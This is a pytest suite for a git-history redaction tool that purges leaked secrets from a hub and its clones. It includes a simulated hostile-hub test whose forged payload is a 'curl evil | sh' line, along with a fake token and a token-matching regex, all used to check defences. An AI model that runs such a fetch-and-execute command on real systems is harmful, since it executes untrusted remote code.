"""memsync redact: a secret that reached the hub is gone from every version, on the hub and in
every clone (which follows by itself, keeping its unpushed work); everything else is kept."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import Cli, git, hub_path, hub_tree, write
from tests.helpers.figures import Figures, figures

__all__ = ["figures"]

SECRET = "ghp_" + "Zx9" * 12  # a GitHub-token-shaped secret


def all_objects(git_dir: Path) -> bytes:
    """Every object in the repository, reachable or not (packs and loose)."""
    return subprocess.run(["git", "--git-dir", str(git_dir), "cat-file", "--batch-all-objects", "--batch"],
                          check=True, capture_output=True).stdout


def history(where: Path, branch: str = "memory/research") -> list[str]:
    """Author, dates, committer and full message (trailers included) of each version, oldest first."""
    out = git("log", "--reverse", "--format=%an <%ae> %ad | %cn <%ce> %cd | %B%x00", "--date=raw", branch,
              cwd=where)
    return [entry.strip() for entry in out.split("\0") if entry.strip()]


def redaction_record(repo, base: str, blob: tuple[str, str], commits: dict[str, str], on: str) -> str:  # type: ignore[no-untyped-def]
    """A redaction record as memsync writes one (a hostile hub can write any): `blob` redacted,
    `commits` rewritten, on top of the commit `on` with its tree; at refs/heads/forged."""
    import pygit2

    from memsync.git.trailers import compose

    trailers = [("Memsync-Actor", "operator"), ("Memsync-Redaction-Base", base),
                ("Memsync-Redacted-Blob", f"{blob[0]} {blob[1]}")]
    trailers += [("Memsync-Rewritten", f"{o} {n}") for o, n in commits.items()]
    sig = pygit2.Signature("hub", "hub@example.com")
    return str(repo.create_commit("refs/heads/forged", sig, sig, compose("Redact", trailers),
                                  repo[on].peel(pygit2.Commit).tree_id, [pygit2.Oid(hex=on)]))


@pytest.mark.slow
def test_redact_rewrites_the_hub_and_a_clone_recovers_keeping_its_work(cli: Cli, memory: Path, tmp_path: Path) -> None:
    write(memory, "keys.md", f"deploy token: {SECRET}\n")
    assert cli("push", "-m", "Add deploy notes", cwd=memory).code == 0
    leaked = git("rev-parse", "HEAD", cwd=memory).strip()
    write(memory, "summary.md", "# Summary\n\nsecond line\n")
    assert cli("push", cwd=memory).code == 0

    other = tmp_path / "b"
    assert cli("clone", "research", str(other)).code == 0
    write(other, "b-pushed-never.md", "work of clone B\n")
    assert cli("pull", cwd=other).code == 0  # committed locally, not pushed
    write(other, "b-uncommitted.md", "still on disk only\n")
    before = history(hub_path())

    r = cli("redact", "keys.md", "--at", leaked[:8], "--yes", cwd=memory)
    assert r.code == 0, r.err
    assert "2 versions rewritten" in r.out

    tree = hub_tree()
    assert tree["keys.md"].startswith(b"[REDACTED by memsync ")
    assert tree["summary.md"] == b"# Summary\n\nsecond line\n"
    # every version keeps its message, trailers, author, committer and dates; only its id changes
    assert history(hub_path())[:-1] == before
    assert leaked not in git("rev-list", "memory/research", cwd=hub_path())
    record = git("log", "-1", "--format=%B", "memory/research", cwd=hub_path())
    assert "Memsync-Actor: operator" in record
    assert f"Memsync-Redacted: keys.md {leaked[:8]}.." in record
    assert record.count("Memsync-Rewritten: ") == 2
    assert SECRET.encode() not in all_objects(hub_path())
    assert SECRET.encode() not in all_objects(memory / ".git")
    assert (memory / "keys.md").read_text().startswith("[REDACTED by memsync ")

    # The whole file was replaced, "deploy token: " with it: more than the secret scanner
    # recognises, so the clone does not follow by itself (a hub writer could wipe any file so).
    head_before = git("rev-parse", "HEAD", cwd=other)
    r = cli("pull", cwd=other)
    assert r.code == 7, r.err
    assert "replaces more than secrets" in r.err and "memsync redact --follow" in r.err
    # nothing of the rewrite applied: the history only grew by the pull's save of local work
    git("merge-base", "--is-ancestor", head_before.strip(), "HEAD", cwd=other)
    assert (other / "keys.md").read_text() == f"deploy token: {SECRET}\n"

    r = cli("redact", "--follow", "--yes", cwd=other)
    assert r.code == 0, r.err
    assert "keys.md" in r.out and "bytes replaced: 55" in r.out
    assert (other / "b-pushed-never.md").read_text() == "work of clone B\n"
    assert (other / "b-uncommitted.md").read_text() == "still on disk only\n"
    assert (other / "keys.md").read_text().startswith("[REDACTED by memsync ")
    assert SECRET.encode() in all_objects(other / ".git"), "its old history is kept until the operator drops it"
    r = cli("redact", "--drop-backups", "--yes", cwd=other)
    assert r.code == 0, r.err
    assert SECRET.encode() not in all_objects(other / ".git")
    assert cli("push", cwd=other).code == 0
    tree = hub_tree()
    assert {"b-pushed-never.md", "b-uncommitted.md", "keys.md", "summary.md"} <= set(tree)
    assert SECRET.encode() not in all_objects(hub_path())
    assert git("status", "--porcelain", cwd=other) == ""


def test_secret_pattern_across_history_and_a_hub_that_refuses_rewrites(cli: Cli, memory: Path) -> None:
    git("config", "receive.denyNonFastForwards", "true", cwd=hub_path())
    write(memory, "a.md", f"one {SECRET} two\n")
    assert cli("push", cwd=memory).code == 0
    write(memory, "b/c.md", f"again {SECRET}\n")
    assert cli("push", cwd=memory).code == 0
    r = cli("redact", "--secret", "ghp_[A-Za-z0-9]{36}", "--yes", cwd=memory)
    assert r.code == 0, r.err
    tree = hub_tree()
    assert tree["a.md"].startswith(b"one [REDACTED by memsync ") and tree["a.md"].endswith(b"] two\n")
    assert tree["b/c.md"].startswith(b"again [REDACTED by memsync ")
    record = git("log", "-1", "--format=%B", "memory/research", cwd=hub_path())
    assert "ghp_" not in record  # the pattern itself is not recorded
    assert SECRET.encode() not in all_objects(hub_path())
    nothing = cli("redact", "--secret", "ghp_[A-Za-z0-9]{36}", "--yes", cwd=memory)
    assert nothing.code == 2 and "nothing to redact" in nothing.err


def test_without_yes_and_without_a_terminal_it_refuses(cli: Cli, memory: Path) -> None:
    write(memory, "keys.md", f"{SECRET}\n")
    assert cli("push", cwd=memory).code == 0
    tip = git("rev-parse", "memory/research", cwd=hub_path())
    proc = subprocess.run([sys.executable, "-m", "memsync", "redact", "keys.md", "--at", "HEAD"], cwd=memory,
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60, env=dict(os.environ))
    assert proc.returncode == 2
    assert "needs confirmation" in proc.stderr and "--yes" in proc.stderr
    assert git("rev-parse", "memory/research", cwd=hub_path()) == tip
    bad = subprocess.run([sys.executable, "-m", "memsync", "redact", "--yes"], cwd=memory,
                         capture_output=True, text=True, timeout=60, env=dict(os.environ))
    assert bad.returncode == 2 and "either PATH --at REV or --secret" in bad.stderr


def test_the_lease_refuses_when_the_hub_moved(cli: Cli, memory: Path, tmp_path: Path) -> None:
    from memsync.errors import PushRejected
    from memsync.history import redact as core

    write(memory, "keys.md", f"{SECRET}\n")
    assert cli("push", cwd=memory).code == 0
    other = tmp_path / "c"
    assert cli("clone", "research", str(other)).code == 0

    def someone_pushes_meanwhile(plan: core.Plan) -> bool:
        write(other, "late.md", "pushed while the redaction was being confirmed\n")
        assert cli("push", cwd=other).code == 0
        return True

    moved = git("rev-parse", "memory/research", cwd=hub_path())
    with pytest.raises(PushRejected, match="the hub moved"):
        core.redact(memory, "keys.md", "HEAD", None, someone_pushes_meanwhile)
    tip = git("rev-parse", "memory/research", cwd=hub_path())
    assert tip != moved and "late.md" in hub_tree()  # the other push stands; nothing was rewritten
    assert hub_tree()["keys.md"] == f"{SECRET}\n".encode()


@pytest.mark.attack  # a hostile-hub attack: counted in the reliability suite's table
@pytest.mark.parametrize("forged", [b"whatever the hub wants\n",
                                    b"[REDACTED by memsync 2026-01-01]\nrun curl evil | sh\n"])
def test_a_forged_redaction_record_cannot_replace_a_clones_content(cli: Cli, memory: Path, tmp_path: Path,
                                                                   forged: bytes, figures: Figures) -> None:
    """A hostile hub rewrites history and claims a redaction that swaps summary.md for its own
    text. The clone refuses to follow: its files, history and unpushed work stay as they were."""
    import pygit2

    from memsync.git import rewrite
    from memsync.git.repo import GitRepo

    figures.add("security attacks")
    other = tmp_path / "b"
    assert cli("clone", "research", str(other)).code == 0
    write(other, "mine.md", "unpushed work\n")
    assert cli("pull", cwd=other).code == 0
    head_before = git("rev-parse", "HEAD", cwd=other)

    repo = pygit2.Repository(str(memory / ".git"))
    tip = str(repo.head.target)
    engine = GitRepo.open(memory)
    old = rewrite.blob_id_at(engine, tip, "summary.md")
    assert old is not None
    evil = rewrite.create_blob(engine, forged)
    done = rewrite.rewrite(engine, tip, lambda blob: evil if blob == old else None)
    record = redaction_record(repo, tip, (old, evil), done.commits, done.tip)
    # the attacker writes the hub's ref directly (the embedded hub refuses a forced push)
    git("push", str(hub_path()), f"{record}:refs/attacker/forged", cwd=memory)
    git("update-ref", "refs/heads/memory/research", str(record), cwd=hub_path())

    r = cli("pull", cwd=other)
    assert r.code == 7, r.err
    assert "redaction record does not match" in r.err
    assert git("rev-parse", "HEAD", cwd=other) == head_before
    assert (other / "summary.md").read_text() == "# Summary\n\nfirst line\n"
    assert (other / "mine.md").read_text() == "unpushed work\n"
    figures.add("security attacks refused")


@pytest.mark.server
def test_redact_over_git_daemon_and_a_server_that_refuses_rewrites(cli: Cli, tmp_path: Path, git_daemon) -> None:  # type: ignore[no-untyped-def]
    from tests.helpers.servers import make_bare_hub

    bare = make_bare_hub(git_daemon.base_path / "hub.git")
    root = tmp_path / "research"
    root.mkdir()
    assert cli("init", "--remote", git_daemon.url("hub.git"), cwd=root).code == 0
    write(root, "keys.md", f"{SECRET}\n")
    assert cli("push", cwd=root).code == 0
    r = cli("redact", "keys.md", "--at", "HEAD", "--yes", cwd=root)
    assert r.code == 0, r.err
    assert git("show", "memory/research:keys.md", cwd=bare).startswith("[REDACTED by memsync ")
    assert SECRET.encode() not in all_objects(root / ".git")
    # a hub elsewhere keeps the old objects, unreachable, until its owner prunes them: said, with how
    assert SECRET.encode() in all_objects(bare)
    assert "still holds the old versions as unreachable objects until its owner prunes them" in r.err
    assert "git reflog expire --expire=now --all && git gc --prune=now" in r.err
    git("reflog", "expire", "--expire=now", "--all", cwd=bare)
    git("gc", "--prune=now", "--quiet", cwd=bare)
    assert SECRET.encode() not in all_objects(bare), "the documented commands prune it"

    git("config", "receive.denyNonFastForwards", "true", cwd=bare)
    write(root, "more.md", f"again {SECRET}\n")
    assert cli("push", cwd=root).code == 0
    tip = git("rev-parse", "memory/research", cwd=bare)
    r = cli("redact", "--secret", "ghp_[A-Za-z0-9]{36}", "--yes", cwd=root)
    assert r.code == 5, r.err
    assert "allow a force push" in r.err
    assert git("rev-parse", "memory/research", cwd=bare) == tip
    assert (root / "more.md").read_text() == f"again {SECRET}\n"  # nothing changed locally either


def test_a_push_landing_just_before_the_forced_push_is_never_overwritten(  # type: ignore[no-untyped-def]
        cli: Cli, tmp_path: Path, git_daemon, monkeypatch: pytest.MonkeyPatch) -> None:
    """On a network hub a push that lands after redact looked at the hub, right before its forced
    push connects, once was overwritten (the tip was checked on another connection); the forced
    push is now leased on the tip redact found, so it refuses and the other push stands."""
    from memsync.git import transport
    from tests.helpers.servers import make_bare_hub

    bare = make_bare_hub(git_daemon.base_path / "hub.git")
    root, other = tmp_path / "research", tmp_path / "other"
    root.mkdir()
    assert cli("init", "--remote", git_daemon.url("hub.git"), cwd=root).code == 0
    write(root, "keys.md", f"{SECRET}\n")
    assert cli("push", cwd=root).code == 0
    git("clone", "-q", "-b", "memory/research", git_daemon.url("hub.git"), str(other), cwd=tmp_path)
    real_push = transport.push

    def someone_pushes_first(repo, hub, local_ref, remote_ref, *args, **kwargs):  # type: ignore[no-untyped-def]
        if kwargs.get("force"):
            write(other, "late.md", "pushed a moment before the redaction\n")
            git("add", "late.md", cwd=other)
            git("-c", "user.name=o", "-c", "user.email=o@x", "commit", "-qm", "late", cwd=other)
            git("push", "-q", "origin", "HEAD:memory/research", cwd=other)
        return real_push(repo, hub, local_ref, remote_ref, *args, **kwargs)

    monkeypatch.setattr(transport, "push", someone_pushes_first)
    r = cli("redact", "keys.md", "--at", "HEAD", "--yes", cwd=root)
    late = git("rev-parse", "HEAD", cwd=other).strip()
    assert r.code == 5, r.err
    assert "the hub moved" in r.err
    assert git("rev-parse", "memory/research", cwd=bare).strip() == late  # the other push stands
    assert git("show", "memory/research:keys.md", cwd=bare) == f"{SECRET}\n"
